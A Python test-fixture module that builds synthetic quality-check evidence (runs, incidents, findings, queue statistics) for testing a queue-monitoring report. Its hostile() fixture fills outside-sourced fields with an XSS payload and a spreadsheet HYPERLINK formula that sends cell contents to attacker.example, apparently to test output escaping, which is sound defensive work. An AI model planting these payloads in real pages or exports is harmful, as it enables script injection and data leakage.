"""Evidence of judgements of quality made up for tests of the report: realistic in size and shape, without a server."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from queuekeeper.jobs.checks import CHECKS, Priority, Severity
from queuekeeper.jobs.findings import Finding, Status
from queuekeeper.quality.judge.incidents import Incident, State
from queuekeeper.quality.judge.known_issues import KnownIssue
from queuekeeper.quality.judge.store import (
    DepthBucket,
    ExpiryHour,
    Profile,
    QualityRun,
    TrendCell,
    TrendRun,
    Verdict,
    WorstQueue,
)
from queuekeeper.quality.report.gather import Evidence
from queuekeeper.quality.report.model import CohortLine

RUN_ID = "fedcba9876543210"
PROFILE_ID = "0123456789abcdef"
NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
NOW_MS = round(NOW.timestamp() * 1_000)
HOSTILE = "<script>alert('client')</script>\"><img src=//attacker.example/x onerror=alert(1)>"
FORMULA = '=HYPERLINK("//attacker.example/"&A1,"queue")'
HOUR_MS = 3_600_000


def _profile(store: str) -> Profile:
    return Profile(
        profile_id=f"{PROFILE_ID[:-1]}{store[0]}",
        store=store,
        target="127.0.0.1:6379/0" if store == "redis" else "127.0.0.1:5432/tbmq",
        mode="full",
        contents=True,
        cohort_count=96,
        cohorts=tuple(range(96)),
        sample_percent=100,
        session_limit=10_000,
        default_ttl_s=604_800,
        max_payload_bytes=1_048_576,
        as_of_ms=NOW_MS,
        queues=20_000,
        messages=1_000_000,
        started_at=NOW,
        finished_at=NOW + timedelta(seconds=41),
        is_forgotten=False,
    )


def quarantined(
    origin: str,
    reason: str,
    *,
    waiting: int,
    replayed: int,
    oldest_ms: int | None = None,
) -> dict[str, Any]:
    """Return a count of the quarantine as a run keeps it."""
    return {"origin": origin, "reason": reason, "open": waiting, "replayed": replayed, "oldest_ms": oldest_ms}


def _run(number: int, *, verdict: Verdict, used_bytes: int) -> QualityRun:
    started = NOW - timedelta(hours=6 * (29 - number))
    return QualityRun(
        quality_run_id=RUN_ID if number == 29 else f"{number:016x}",
        mode="full",
        suites=("sessions_redis", "sessions_postgres"),
        profile_ids=(f"{PROFILE_ID[:-1]}r", f"{PROFILE_ID[:-1]}p"),
        verdict=verdict,
        numbers={
            "servers": [
                {
                    "address": "127.0.0.1:6379",
                    "is_valkey": True,
                    "version": "9.1.2",
                    "used_memory_bytes": used_bytes,
                    "maxmemory_bytes": 2_147_483_648,
                    "maxmemory_policy": "noeviction",
                }
            ],
            "quarantine": [
                quarantined("session_migration", "packet_id_duplicate", waiting=72, replayed=12, oldest_ms=NOW_MS),
                quarantined("session store", "topic_empty", waiting=0, replayed=9),
            ],
            "not_judged": ["Q21"],
        },
        started_at=started,
        finished_at=started + timedelta(seconds=50),
    )


INCIDENT = Incident(
    incident_id=4,
    check_id="Q11",
    title=CHECKS["Q11"].title,
    priority=Priority.P0,
    severity=Severity.CRITICAL,
    place="redis.example.org:6379/0",
    state=State.KNOWN,
    owner="platform team",
    known_until=NOW.date() + timedelta(days=20),
    unexpected_count=5,
    first_seen_at=NOW - timedelta(days=9, hours=1),
    first_run_id="q-1",
    last_seen_at=NOW - timedelta(hours=1),
    last_run_id=RUN_ID,
    cohorts_left=96,
    closed_at=None,
    closed_by="",
    closed_reason="",
)

CLOSED = replace(
    INCIDENT,
    incident_id=3,
    state=State.CLOSED,
    closed_at=NOW - timedelta(days=1),
    closed_by="ann",
    closed_reason="the server was switched off",
)


def result(check_id: str, status: Status = Status.PASSED, *, number: int = 1, **more: Any) -> Finding:
    """Return the outcome of one expectation."""
    check = CHECKS[check_id]
    values: dict[str, Any] = {
        "suite": "sessions_redis",
        "expectation": number,
        "check_id": check_id,
        "severity": check.severity,
        "status": status,
        "description": f"{check.title}: as it should be.",
    }
    if status is not Status.PASSED and check.remedy is not None:
        filled = check.remedy.filled(
            quality_run_id=RUN_ID, cohorts="0-3,7", key_prefix="", limit=10_000, default_ttl_s=604_800
        )
        values |= {"remedy": check.remedy.dag_id, "remedy_conf": filled}
    return Finding(**(values | more))


def _trend() -> tuple[TrendRun, ...]:
    runs = []
    numbers = list(CHECKS)
    for number in range(30):
        cells = {
            check_id: TrendCell(status=Status.PASSED, severity=CHECKS[check_id].severity, unexpected_count=0)
            for check_id in numbers
            if number > 3 or check_id != "Q36"
        }
        cells["Q9"] = TrendCell(status=Status.FAILED, severity=Severity.WARNING, unexpected_count=120 + 17 * number)
        if number > 24:
            cells["Q11"] = TrendCell(status=Status.FAILED, severity=Severity.CRITICAL, unexpected_count=number - 24)
        if number > 10:
            cells["Q20"] = TrendCell(status=Status.KNOWN, severity=Severity.INFO, unexpected_count=2)
        if number == 14:
            cells["Q14"] = TrendCell(status=Status.BROKEN, severity=Severity.WARNING, unexpected_count=0)
        used_bytes = 1_300_000_000 + number * 12_000_000 + number * 7_919 % 9 * 1_500_000
        verdict = Verdict.FAILED if number > 24 else Verdict.WARNED
        runs.append(TrendRun(run=_run(number, verdict=verdict, used_bytes=used_bytes), cells=cells))
    return tuple(runs)


def _queues(store: str, *, count: int = 20) -> tuple[WorstQueue, ...]:
    faults: tuple[Mapping[str, int], ...] = (
        {"counter_behind": 1, "tied_serials": 4},
        {"without_ttl": 311},
        {"over_limit": 2_000, "step_errors": 12, "dead_crowding": 1},
    )
    return tuple(
        WorstQueue(
            client_hash=f"{number:04x}{store[0] * 4:.4}{number:08x}".replace("r", "a").replace("p", "b"),
            client_id=None,
            cohort=number % 96,
            slot=number,
            shard="127.0.0.1:6379",
            messages=12_000 - number * 131,
            live=9_000 - number * 97,
            dead=3_000 - number * 34,
            payload_bytes=(9_000 - number * 97) * 217,
            faults=faults[number % 3],
        )
        for number in range(count)
    )


def _hours(*, hours: int = 169) -> tuple[ExpiryHour, ...]:
    first = NOW_MS // HOUR_MS * HOUR_MS
    ahead = tuple(
        ExpiryHour(
            hour_ms=first + hour * HOUR_MS,
            messages=3_000 + 2_000 * (8 <= hour % 24 <= 18) + hour * 7_919 % 700,
            payload_bytes=(3_000 + 2_000 * (8 <= hour % 24 <= 18) + hour * 7_919 % 700) * 230,
        )
        for hour in range(hours)
    )
    return (
        ExpiryHour(hour_ms=0, messages=31_100, payload_bytes=8_000_000),
        ExpiryHour(hour_ms=first - 5 * HOUR_MS, messages=900, payload_bytes=207_000),
        *ahead,
        ExpiryHour(hour_ms=first + 4_000 * HOUR_MS, messages=12, payload_bytes=2_760),
    )


def _depths() -> tuple[DepthBucket, ...]:
    lows = (0, *(2**power for power in range(14)))
    highs = [low - 1 for low in lows[1:]]
    return tuple(
        DepthBucket(low=low, high=high, queues=max(0, 9_000 >> at) + at % 3, messages=low * (9_000 >> at))
        for at, (low, high) in enumerate(zip(lows, highs, strict=False))
    )


def cohort_lines(store: str, *, count: int = 96) -> tuple[CohortLine, ...]:
    """Return the sums of so many cohorts."""
    return tuple(
        CohortLine(
            store=store,
            cohort=number,
            queues=208,
            messages=10_400 + number,
            dead=number % 7 * 30,
            payload_bytes=(10_400 + number) * 217,
            faulty_queues=(0, 0, 0, 1, 0, 0, 12)[number % 7],
        )
        for number in range(count)
    )


def failed() -> Evidence:
    """Return the evidence of a run that found messages in danger, a check that broke, and what is known."""
    trend = _trend()
    profiles = (_profile("redis"), _profile("postgres"))
    redis, postgres = (profile.profile_id for profile in profiles)
    behind = tuple({"client_hash": f"{number:016x}", "last_packet_id": 7, "newest": 11 + number} for number in range(5))
    results = (
        *(result(check_id, number=at) for at, check_id in enumerate(("Q1", "Q3", "Q4", "Q7", "Q8", "Q10"), start=1)),
        result("Q11", Status.FAILED, number=7, unexpected_count=5, observed="5 of 20,000 queues", examples=behind),
        result("Q9", Status.FAILED, number=8, severity=Severity.WARNING, unexpected_count=613),
        result("Q14", Status.BROKEN, number=9, observed="column ttl_too_long is missing"),
        result("Q20", Status.KNOWN, number=10, unexpected_count=2),
        result("Q5", number=1, suite="sessions_postgres"),
    )
    issues = (
        KnownIssue(
            known_issue_id=1,
            check_id="Q20",
            client_hash=None,
            owner="platform team",
            reason="meters of the first series have brackets in their ids",
            ends_on=NOW.date() + timedelta(days=20),
            created_at=NOW,
        ),
        KnownIssue(
            known_issue_id=2,
            check_id="Q13",
            client_hash="00112233445566aa",
            owner="night shift",
            reason="kept for an audit",
            ends_on=NOW.date() - timedelta(days=3),
            created_at=NOW,
        ),
    )
    return Evidence(
        run=trend[-1].run,
        profiles=profiles,
        results=results,
        known_issues=issues,
        incidents=(INCIDENT, CLOSED),
        trend=trend,
        queues={redis: _queues("redis"), postgres: _queues("postgres")},
        depths={redis: _depths(), postgres: _depths()},
        expiry={redis: _hours(), postgres: _hours()},
        cohorts={redis: cohort_lines("redis"), postgres: cohort_lines("postgres")},
    )


def hostile() -> Evidence:
    """Return evidence in which every text that comes from outside wants to do harm."""
    evidence = failed()
    examples = ({"client_hash": HOSTILE, "client_id": "meter/17", FORMULA: FORMULA, "value": HOSTILE},)
    results = tuple(
        replace(each, examples=examples, observed=FORMULA, description=HOSTILE, remedy_conf={"remedy": HOSTILE})
        for each in evidence.results
    )
    return replace(
        evidence,
        incidents=(
            replace(INCIDENT, owner=HOSTILE, place=HOSTILE),
            replace(CLOSED, place=HOSTILE, closed_by=HOSTILE, closed_reason=HOSTILE),
        ),
        results=results,
        known_issues=tuple(
            replace(issue, owner=FORMULA, reason=HOSTILE, client_hash=HOSTILE) for issue in evidence.known_issues
        ),
        queues={
            name: tuple(replace(queue, client_hash=HOSTILE, faults={FORMULA: 1, HOSTILE: 2}) for queue in queues)
            for name, queues in evidence.queues.items()
        },
        run=replace(
            evidence.run,
            numbers=dict(evidence.run.numbers) | {"quarantine": [quarantined(HOSTILE, FORMULA, waiting=1, replayed=0)]},
        ),
    )


def passed() -> Evidence:
    """Return the evidence of a run in which everything holds."""
    evidence = failed()
    run = replace(evidence.run, verdict=Verdict.PASSED, numbers={})
    return replace(
        evidence,
        run=run,
        incidents=(),
        results=tuple(result(check_id, number=at) for at, check_id in enumerate(("Q1", "Q9", "Q11"), start=1)),
        known_issues=(),
        queues={},
        cohorts={},
    )


def empty() -> Evidence:
    """Return the evidence of a run that read nothing, in a database that knows no other."""
    run = replace(_run(29, verdict=Verdict.RUNNING, used_bytes=0), numbers={}, profile_ids=(), suites=())
    return Evidence(run=replace(run, finished_at=None), profiles=(), results=())
